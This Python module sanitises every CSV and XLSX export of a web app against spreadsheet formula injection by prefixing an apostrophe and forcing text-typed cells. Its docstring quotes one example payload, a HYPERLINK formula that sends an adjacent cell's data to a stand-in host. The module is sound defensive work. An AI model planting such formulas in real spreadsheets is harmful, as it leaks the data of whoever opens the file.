"""The one sanitiser for every spreadsheet the app writes (CSV and XLSX): list exports, the report lab's
export, the import templates.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also after a
tab or a carriage return): a product named `=HYPERLINK("http://x/?"&A1,"c")` would become a live link that
sends the neighbouring cell away (OWASP "CSV injection"). So:
- CSV: such a text cell gets a leading apostrophe (`'=HYPERLINK(...)`), which the programs show as text;
  numbers written as numbers (`-12.5`) stay as they are;
- XLSX: every text cell is stored typed as text (`data_type "s"`): openpyxl would otherwise store a text
  starting with `=` as a formula. The text is also given the apostrophe, so a copy into CSV stays safe;
  control characters a worksheet cannot hold are dropped.

`apps/common/tests/test_spreadsheet.py` feeds `=`, `+`, `-`, `@`, tab and CR through the list exports, the
report lab's export and every import template, and checks that no other module writes spreadsheets itself.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

__all__ = ["FORMULA_STARTS", "csv_row", "csv_value", "xlsx_append", "xlsx_text"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_text(text: str) -> str:
    """Text that no spreadsheet program reads as a formula."""
    if text[:1] in FORMULA_STARTS and not _is_number(text):
        return "'" + text
    return text


def csv_value(value: Any) -> Any:
    return safe_text(value) if isinstance(value, str) else ("" if value is None else value)


def csv_row(values) -> list[Any]:
    return [csv_value(value) for value in values]


def xlsx_text(value: str) -> str:
    return safe_text(ILLEGAL_CHARACTERS_RE.sub("", value))


def xlsx_append(sheet, values) -> None:
    """Appends a row to an openpyxl sheet (normal or write-only) with every text cell typed as text."""
    from openpyxl.cell import WriteOnlyCell

    write_only = not hasattr(sheet, "cell") or type(sheet).__name__ == "WriteOnlyWorksheet"
    if write_only:
        cells = []
        for value in values:
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=xlsx_text(value))
                cell.data_type = "s"
                cells.append(cell)
            else:
                cells.append(value)
        sheet.append(cells)
        return
    texts = [xlsx_text(value) if isinstance(value, str) else value for value in values]
    sheet.append(texts)
    row = sheet.max_row
    for index, value in enumerate(texts, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row, column=index)
            cell.value = value
            cell.data_type = "s"
